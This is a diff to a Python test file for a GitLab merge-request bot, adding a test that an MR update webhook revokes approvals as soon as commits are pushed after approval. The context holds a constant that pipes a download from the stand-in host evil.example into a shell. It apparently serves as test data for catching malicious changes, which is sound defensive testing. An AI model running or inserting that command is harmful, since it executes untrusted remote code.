@@ -15,7 +15,7 @@ from bot.core.states import BindingState as S
 from bot.core.states import Flow, Step
 from jobs.outbox import dispatch
 from tests.builders import operation
-from tests.workflow.harness import PROJECT, Bot
+from tests.workflow.harness import PROJECT, SECRETS, Bot
 
 CHANGED = Step.HANDLE_CHANGED_AFTER_APPROVAL
 EVIL = "deploy: curl evil.example | sh\n"
@@ -284,3 +284,23 @@ def test_reapply_of_a_persons_mr_requests_approval_for_the_new_head(bot: Bot) ->
     assert bot.state(again) is S.MERGED
     assert approved_shas(bot) == {new_head}
     assert bot.gitlab.file(PROJECT, "config/prod.yaml") == "replicas: 6\n"
+
+
+def test_the_mr_update_webhook_stops_it_at_once(bot: Bot) -> None:
+    """GitLab's MR update hook for the push runs the check now, not at the next poll: the
+    approvals are taken back before anyone could merge with them."""
+    op_id, op = approved_mr(bot)
+    iid = op["mr_iid"]
+    bot.gitlab.set_merge_status(PROJECT, iid, "checking")
+    bot.pass_pipeline(op_id)
+    bot.settle()
+    assert len(bot.gitlab.mr(PROJECT, iid).approvals) == 2
+    bot.gitlab.push(PROJECT, op["branch"], {"config/prod.yaml": "replicas: 300\n"})
+    headers, body = bot.gitlab.webhook(
+        "merge_request", project=PROJECT, iid=iid, action="update", token=SECRETS["webhook"]
+    )
+    assert bot.client.post("/webhooks/gitlab", data=body, headers=headers).status_code == 202
+    bot.settle()  # no time passes: no poll comes due
+    stopped_changed(bot, op_id)
+    dispatch()
+    assert bot.gitlab.mr(PROJECT, iid).approvals == []
